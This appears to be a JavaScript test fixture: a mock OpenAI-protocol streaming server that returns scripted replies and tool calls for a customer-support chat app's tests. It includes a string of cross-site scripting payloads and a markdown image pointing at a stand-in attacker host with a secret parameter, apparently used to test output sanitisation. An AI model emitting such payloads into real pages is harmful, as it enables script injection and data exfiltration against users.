// A provider with OpenAI's protocol, whose answers the test controls.
import { createServer } from "node:http";

/** Bodies that were received. */
export const bodies = [];
/** Set by a test that holds an answer in its middle. */
export const hold = { release: null };

export const HOSTILE = [
  "<img src=x onerror=\"window.pwned=1\"><script>window.pwned=1</script>",
  "[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>)",
  "![secret](http://attacker.invalid/pixel?secret=1) <iframe src=http://attacker.invalid></iframe>",
  "| a |\n|---|\n| <svg onload=window.pwned=1> |",
].join("\n\n");

const call = (name, args, index = 0) => ({ tool_calls: [{ index, id: `call_${index}`, type: "function", function: { name, arguments: JSON.stringify(args) } }] });
const calls = (...all) => all.map(([name, args], index) => call(name, args, index));

const LONG_ANSWER = `Your order **1042** was delivered on Monday.

| Item | Price | State |
|---|---|---|
| Pruning saw | 39.90 € | delivered |

You can send it back within 30 days:

1. Print the label from your account.
2. Put the saw into its box.
3. Drop the parcel at any shop.

\`\`\`json
{ "order": 1042, "refundable": true }
\`\`\``;

function pieces(request) {
  const last = request.messages.at(-1);
  const text = typeof last.content === "string" ? last.content : "";
  if (last.role === "tool" && text.includes("refunded")) return [{ content: "The refund of order 1042 is on its way. You get a **confirmation** by mail." }];
  if (last.role === "tool" && /^\[|denied/.test(text)) return [{ content: `The tool said: ${text}` }];
  if (last.role === "tool") return LONG_ANSWER.match(/[^]{1,24}/g).map((content) => ({ content }));
  if (/refund both/i.test(text)) return calls(["refund", { number: "1042" }], ["refund", { number: "1043" }]);
  if (/deliver and refund/i.test(text)) return calls(["deliver", {}], ["refund", { number: "1042" }]);
  if (/deliver/i.test(text)) return [call("deliver", {})];
  if (/nonsense/i.test(text)) return [call("odd", {})];
  if (/bill/i.test(text)) return [call("pay", {})];
  if (/promise about the price/.test(text)) return [{ content: "Clean the blade with a dry cloth." }];
  if (/cheap/i.test(text)) return [{ content: "You get a discount of 90 %." }];
  if (/refund/i.test(text)) return [call("refund", { number: "1042" })];
  if (/order/i.test(text)) return [call("order", { number: "1042" })];
  if (text === "hostile") return HOSTILE.match(/[^]{1,7}/g).map((content) => ({ content }));
  if (text === "large") return Array(64).fill({ content: "<img src=x onerror=alert(1)> ".repeat(2260).slice(0, 65536) });
  if (text === "hold") return [{ content: "The first piece" }, null, { content: " and the rest." }];
  return [{ content: `You wrote: ${text}` }];
}

export async function provider() {
  const server = createServer(async (request, response) => {
    let body = "";
    for await (const piece of request) body += piece;
    bodies.push(body);
    response.writeHead(200, { "content-type": "text/event-stream" });
    const send = (value) => response.write(`data: ${JSON.stringify(value)}\n\n`);
    for (const delta of pieces(JSON.parse(body))) {
      if (delta) send({ id: "chatcmpl-1", model: "support", choices: [{ index: 0, delta }] });
      else await new Promise((resolve) => { hold.release = resolve; request.socket.on("close", resolve); });
    }
    send({ choices: [{ index: 0, delta: {}, finish_reason: "stop" }] });
    send({ choices: [], usage: { prompt_tokens: 214, completion_tokens: 96, total_tokens: 310 } });
    response.end("data: [DONE]\n\n");
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${server.address().port}/v1`, close: () => server.closeAllConnections() || server.close() };
}
